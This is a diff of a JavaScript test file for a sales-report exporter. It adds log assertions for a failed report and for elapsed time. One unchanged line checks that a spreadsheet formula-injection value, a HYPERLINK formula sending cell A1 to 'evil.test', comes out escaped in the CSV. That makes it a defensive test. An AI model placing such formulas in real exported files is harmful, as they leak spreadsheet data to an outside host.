@@ -180,6 +180,11 @@ test('a CSV that says something else is neither kept beside our JSON nor written
   const { s } = await twoDays();
   await s.reports.create('2026-03-01', 'csv', Buffer.from('other'));
   await expect(s.report()).rejects.toThrow('2026-03-01');
+  // The alert shows this to the operator, who alone can mend it.
+  expect(s.log.entries.at(-1)).toMatchObject({
+    event: 'report_failed',
+    fields: { day: '2026-03-01', reason: expect.stringMatching(/another CSV of 2026-03-01 .* Delete it/) },
+  });
   expect(s.reports.names()).toEqual(['sales/2026-03-01.csv']);
   expect(await s.text('2026-03-01', 'csv')).toBe('other');
   s.reports.remove('2026-03-01', 'csv');
@@ -318,11 +323,12 @@ test('a name that a spreadsheet would calculate is told as it is in JSON, and as
   expect(await s.text('2026-03-01', 'csv')).toContain(`,mug,"'=HYPERLINK(""http://evil.test?""&A1)",1,`);
 });
 
-test('a day of many events shows in the log how far it is', async () => {
+test('a day of many events shows in the log how far it is, and how long it took', async () => {
   const { s } = await twoDays({
     orders: (orders) => ({
       ...orders,
       async *listEvents(_status, day) {
+        s.clock.advance(1_000);
         for (let n = 0; n < 6_000; n++) {
           yield { sortKey: `${day}|${n}`, currency: 'EUR', items: [] };
         }
@@ -334,6 +340,6 @@ test('a day of many events shows in the log how far it is', async () => {
   expect(signs).toEqual([10_000, 20_000, 30_000]);
   expect(s.log.entries.at(-1)).toMatchObject({
     event: 'report_written',
-    fields: { day: '2026-03-01', events: 30_000 },
+    fields: { day: '2026-03-01', events: 30_000, ms: 5_000 },
   });
 });
